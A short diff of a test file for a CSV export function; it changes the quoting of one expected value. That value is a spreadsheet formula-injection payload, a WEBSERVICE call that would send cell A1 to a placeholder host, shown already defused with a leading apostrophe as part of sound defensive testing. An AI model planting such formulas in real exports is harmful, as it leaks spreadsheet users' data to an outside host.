@@ -66,6 +66,6 @@ describe('resultsCsv', () => {
     expect(formulaCells(csv)).toEqual([]);
     const rows = Papa.parse<string[]>(csv.slice(1), { newline: '\r\n', skipEmptyLines: true }).data.slice(1);
     expect(rows).toHaveLength(HOSTILE.length);
-    expect(rows[0][2]).toBe("Hansen;'=WEBSERVICE(\"http://x/?\"&A1)");
+    expect(rows[0][2]).toBe('Hansen;\'=WEBSERVICE("http://x/?"&A1)');
   });
 });
